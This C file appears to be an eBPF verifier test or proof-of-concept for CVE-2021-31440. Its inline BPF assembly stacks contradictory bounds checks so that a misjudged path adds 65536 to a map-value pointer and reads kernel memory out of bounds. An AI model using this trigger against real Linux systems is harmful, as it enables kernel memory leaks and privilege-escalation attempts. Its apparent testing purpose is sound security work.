#include <linux/bpf.h>
#include <bpf/bpf_helpers.h>
#include "oracle_asm.h"

struct { __uint(type, BPF_MAP_TYPE_ARRAY); __uint(max_entries, 1); __type(key, __u32); __type(value, struct { __u8 b[16]; }); } vals SEC(".maps");

SEC("socket") __naked void rp_range_cve_2021_31440_jmp_jge(void)
{
	asm volatile (
	"r1 = 0;"
	"*(u32 *)(r10 - 4) = r1;"
	"r2 = r10;"
	"r2 += -4;"
	"r1 = %[vals] ll;"
	"call %[bpf_map_lookup_elem];"
	"if r0 == 0 goto l37_%=;"
	"r6 = r0;"
	"r7 = *(u64 *)(r6 + 0);"
	"r8 = *(u64 *)(r6 + 8);"
	"r1 = 0x5c2777f46774aff9 ll;"
	"r7 &= r1;"
	"r1 = 0x450afb9 ll;"
	"r7 |= r1;"
	"if r7 < 1212487708 goto l37_%=;"
	"r1 = 0x5c2777f46774aff9 ll;"
	"if r7 > r1 goto l37_%=;"
	"if r7 s< 1212487708 goto l37_%=;"
	"r1 = 0x5c2777f46774aff9 ll;"
	"if r7 s> r1 goto l37_%=;"
	"if w7 < 72396729 goto l37_%=;"
	"if w7 > 1274590065 goto l37_%=;"
	"if w7 s< 72396729 goto l37_%=;"
	"if w7 s> 1274590065 goto l37_%=;"
	"r1 = 0x48f80000003009f0 ll;"
	"if r7 >= r1 goto l33_%=;"
	"goto l37_%=;"
	"l33_%=:"
	"if w7 > 611364793 goto l37_%=;"
	"goto l35_%=;"
	"l35_%=:"
	"r6 += 65536;"
	"r0 = *(u8 *)(r6 + 0);"
	"l37_%=:"
	"r0 = 0;"
	"exit;"
	:: __imm(bpf_map_lookup_elem), __imm_addr(vals) : __clobber_all);
}

char _license[] SEC("license") = "GPL";